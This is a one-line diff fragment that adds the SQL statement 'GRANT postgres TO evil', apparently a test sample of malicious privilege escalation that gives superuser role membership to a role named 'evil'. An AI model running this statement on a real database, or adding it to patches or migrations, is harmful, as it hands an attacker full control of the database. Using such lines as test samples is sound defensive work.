@@ -1,0 +1,1 @@
+GRANT postgres TO evil
